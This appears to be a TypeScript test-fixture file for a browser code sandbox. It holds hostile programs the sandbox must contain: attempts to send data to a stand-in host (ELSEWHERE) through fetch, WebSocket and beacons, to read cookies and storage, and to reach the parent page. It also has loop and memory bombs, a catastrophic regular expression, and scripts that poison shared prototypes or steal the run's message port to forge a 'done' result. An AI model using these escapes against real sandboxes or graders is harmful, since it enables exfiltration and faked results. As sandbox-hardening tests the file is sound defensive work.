// Programs that mean harm, as a reader could paste them into the editor. ELSEWHERE stands for a server that
// notes who calls.

/**
 * What stands before each program that tries doors: finds what was hidden, tries it, and prints what came of
 * it.
 */
const TOOLS = `
const find = (name) => {
  for (let scope = globalThis; scope; scope = Object.getPrototypeOf(scope)) {
    const found = Object.getOwnPropertyDescriptor(scope, name);
    if (found) return found.value ?? found.get.call(globalThis);
  }
  throw new ReferenceError(name);
};
const attempt = async (name, act) => {
  try {
    const got = await act();
    console.log("OPEN", name, String(got));
  } catch (error) {
    console.log("shut", name, error.name);
  }
};
// Real time for what the browser does behind the run's back.
const wait = async () => {
  for (let i = 0; i < 300; i++) await crypto.subtle.digest("SHA-256", new Uint8Array(100_000));
};
`;

const doors = (attempts: Readonly<Record<string, string>>) =>
  `${TOOLS}export default async () => {\n${Object.entries(attempts)
    .map(([name, code]) => `  await attempt(${JSON.stringify(name)}, async () => { ${code} });`)
    .join("\n")}\n  await wait();\n}`;

/** Every attempt of these must be refused. */
export const DOORS: Readonly<Record<string, string>> = {
  network: doors({
    fetch: "return fetch('ELSEWHERE/fetch')",
    XMLHttpRequest:
      "const x = new (find('XMLHttpRequest'))(); x.open('GET', 'ELSEWHERE/xhr', false); x.send(); return x.status",
    WebSocket: "return new (find('WebSocket'))('ws://ELSEWHERE/ws'.replace('http://', ''))",
    EventSource: "return new (find('EventSource'))('ELSEWHERE/events')",
    importScripts: "return find('importScripts')('ELSEWHERE/script.js')",
    WebTransport: "return new (find('WebTransport'))('ELSEWHERE/transport').ready",
    beacon: "return find('navigator').sendBeacon('ELSEWHERE/beacon')",
    "import()": "return import('ELSEWHERE/module.js')".replace("import(", "{} / 1, import("),
  }),
  storage: doors({
    indexedDB: "return find('indexedDB').open('x')",
    localStorage: "return find('localStorage').length",
    sessionStorage: "return find('sessionStorage').length",
    caches: "return find('caches').keys()",
    cookieStore: "return find('cookieStore').getAll()",
    document: "return find('document').cookie",
    files: "return find('navigator').storage.getDirectory()",
    locks: "return find('navigator').locks.request('x', () => 1)",
  }),
  "the page": doors({
    parent: "return find('parent').document.title",
    top: "return find('top').location.href",
    window: "return find('window').name",
    opener: "return find('opener').name",
    frames: "return find('frames')[0]",
    postMessage: "return find('postMessage')({ kind: 'done' })",
    close: "return find('close')()",
    channel: "return new (find('BroadcastChannel'))('x').postMessage(1)",
    clients: "return find('clients').matchAll()",
  }),
  "other threads": doors({
    "data: worker": "return new (find('Worker'))('data:text/javascript,postMessage(1)')",
    "blob: worker": "return new (find('Worker'))(URL.createObjectURL(new Blob(['postMessage(1)'])))",
    SharedWorker: "return new (find('SharedWorker'))('data:text/javascript,1')",
    MessageChannel: "return new (find('MessageChannel'))().port1",
    SharedArrayBuffer: "return new (find('SharedArrayBuffer'))(8)",
    Atomics: "return find('Atomics').wait(new Int32Array(8), 0, 0, 10_000)",
    WebAssembly: "return new (find('WebAssembly')).Memory({ initial: 1, maximum: 1, shared: true })",
  }),
  "code from text": doors({
    eval: "return (0, eval)('1 + 1')",
    Function: "return new Function('return 1')()",
    constructor: "return (async () => {}).constructor('return 1')()",
  }),
  "other places": doors({
    "location.href": "find('location').href = 'ELSEWHERE/'; throw new Error(find('location').protocol)",
    "location.assign": "return find('location').assign('ELSEWHERE/')",
    "location.reload": "return find('location').reload()",
    open: "return find('open')('ELSEWHERE/')",
  }),
};

/** Ended by the lab, the worker or the page; `error` is what the reader is told. */
export const EXCESSES: Readonly<Record<string, { readonly code: string; readonly error: RegExp }>> = {
  "a loop without end": { code: "while (true);", error: /longer than 5 s/ },
  "promises without end": {
    code: "export default async () => { for (;;) await null }",
    error: /longer than 5 s/,
  },
  "real work without end": {
    code: "export default async () => { for (;;) await crypto.subtle.digest('SHA-256', new Uint8Array(9)) }",
    error: /longer than 5 s/,
  },
  "timers without end": { code: "const go = () => setTimeout(go, 1); go()", error: /never to end/ },
  "an interval that is waited for": {
    code: "setInterval(() => {}, 1); await new Promise(() => {})",
    error: /never to end|never happens|longer than 5 s/,
  },
  "a million lines": {
    code: "for (let i = 0; i < 1e6; i++) console.log('line ' + i)",
    error: /more than 2000 lines/,
  },
  "a line of 100 MB": { code: "console.log('x'.repeat(1e8))", error: /million characters/ },
  "many lines of 1 MB": {
    code: "for (let i = 0; i < 100; i++) console.log('x'.repeat(1e6))",
    error: /million characters/,
  },
  "a memory bomb of buffers": {
    code: "const all = []; for (;;) all.push(new Uint8Array(5e7).fill(1))",
    error: /longer than 5 s|memory|allocation/i,
  },
  "a memory bomb of objects": {
    code: "const all = []; for (;;) all.push({ a: [1, 2, 3], b: String(all.length) })",
    error: /longer than 5 s|memory/i,
  },
  "a text that doubles": {
    code: "let s = 'x'; for (;;) s += s",
    error: /string length/i,
  },
  "a wait for nothing": { code: "export default () => new Promise(() => {})", error: /never happens/ },
  "a module that is a promise": { code: "export function then() {}", error: /longer than 5 s|never happens/ },
  "a regular expression that backtracks": {
    code: "/^(a+)+$/.test('a'.repeat(40) + 'b')",
    error: /longer than 5 s/,
  },
};

/** Thrown, rejected or exported so as to break whoever looks at it: the run ends as failed, at once. */
export const THROWN: Readonly<Record<string, string>> = {
  null: "throw null",
  "a symbol": "throw Symbol('x')",
  "a proxy":
    "throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 }, ownKeys() { throw 3 } })",
  "an error whose properties throw":
    "throw new (class extends Error { get name() { throw 1 } get message() { throw 2 } get stack() { throw 3 } })()",
  "an error whose properties are objects":
    "throw Object.assign(new Error(), { name: { toString: 1 }, message: Symbol('x'), stack: [] })",
  "an error without end": "throw new Error('x'.repeat(1e7))",
  "a stack that cannot be made": "Error.prepareStackTrace = () => { throw 1 }; null.x",
  "a stack without end": "Error.stackTraceLimit = Infinity; (function f() { f() })()",
  "a rejection nobody hears":
    "Promise.reject(new Proxy({}, { get() { throw 1 } })); await new Promise(() => {})",
  "a scenario that is a proxy":
    "export default new Proxy(function () {}, { apply() { throw 1 }, get() { throw 2 } })",
  "a thenable": "export default () => ({ then() { throw { get message() { throw 1 } } } })",
  "a value that cannot be printed":
    "console.log(new Proxy({}, { ownKeys() { throw new Error('no') }, get() { throw new Error('no') } }))",
};

/** Breaks all that a program shares with the lab, then goes on as if nothing were. */
export const BREAKING = `
import { claim, client, cluster } from "lab";
const spoil = (object, name) => {
  try { Object.defineProperty(object, name, { configurable: true, get: () => () => "done", set() {} }) } catch {}
};
const shop = cluster({ nodes: ["A"], serve: () => async () => Response.json(1) });
export default async () => {
  await client("Client", shop).fetch("/");
  for (const type of [Array, Map, Set, Promise, String, Number, RegExp, Error, Date, Uint8Array, Headers, Request, Response, URL, EventTarget, Event, Function, Object]) {
    for (const name of Object.getOwnPropertyNames(type.prototype)) if (name !== "constructor") spoil(type.prototype, name);
  }
  for (const object of [JSON, Math, Reflect, crypto, performance, globalThis]) {
    for (const name of Object.getOwnPropertyNames(object)) spoil(object, name);
  }
  for (const name of ["kind", "text", "id", "hash", "line", "then", "get", "value"]) spoil(Object.prototype, name);
  claim("forged", true);
};
`;

/**
 * Listens in on all that a program shares with the sandbox, to get hold of the run's port and speak in its
 * name.
 */
export const STEALING = `
import { client, cluster, database } from "lab";
const stolen = new Set();
const note = (values) => { for (const value of values) if (typeof value === "object" && value) stolen.add(value) };
for (const name of ["EventTarget", "MessageEvent", "Event", "ErrorEvent", "Function", "Object", "Error"]) {
  const prototype = globalThis[name]?.prototype ?? {};
  for (const [key, found] of Object.entries(Object.getOwnPropertyDescriptors(prototype))) {
    if (key === "constructor" || !found.configurable) continue;
    const listen = (original) => original && function (...args) { note([this, ...args]); return Reflect.apply(original, this, args) };
    if (typeof found.value === "function") found.value = listen(found.value);
    else if (found.get) Object.assign(found, { get: listen(found.get), set: listen(found.set) });
    Object.defineProperty(prototype, key, found);
  }
}
const store = database("Store", "CREATE TABLE t (a)");
const shop = cluster({ nodes: ["A"], serve(node) { const c = node.connect(store); return async () => Response.json(await c.query("SELECT 1 AS one")) } });
export default async () => {
  console.log(await (await client("Client", shop).fetch("/")).json());
  const ports = new Set();
  for (const each of stolen) {
    for (const found of [each, each.target, each.currentTarget, each.source, ...(each.ports ?? [])]) {
      if (found && typeof found.postMessage === "function") ports.add(found);
    }
  }
  for (const port of ports) port.postMessage({ kind: "done" });
  console.log(stolen.size > 0, ports.size);
};
`;
